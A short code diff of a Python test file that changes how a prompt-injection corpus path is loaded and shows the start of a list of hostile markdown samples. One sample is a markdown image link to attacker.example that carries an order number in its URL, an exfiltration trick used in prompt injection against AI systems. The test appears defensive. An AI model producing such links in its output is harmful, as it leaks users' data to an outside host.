@@ -2,11 +2,12 @@
 
 import json
 from html.parser import HTMLParser
-from pathlib import Path
 
 import pytest
 
-CORPUS = Path(__file__).parents[2] / "shared" / "datasets" / "prompt-injection" / "corpus.jsonl"
+from tests.conftest import DATASETS
+
+CORPUS = DATASETS / "prompt-injection" / "corpus.jsonl"
 
 HOSTILE_MARKDOWN = [
     "Here is your receipt ![r](https://attacker.example/p?d=ORDER-1234)",
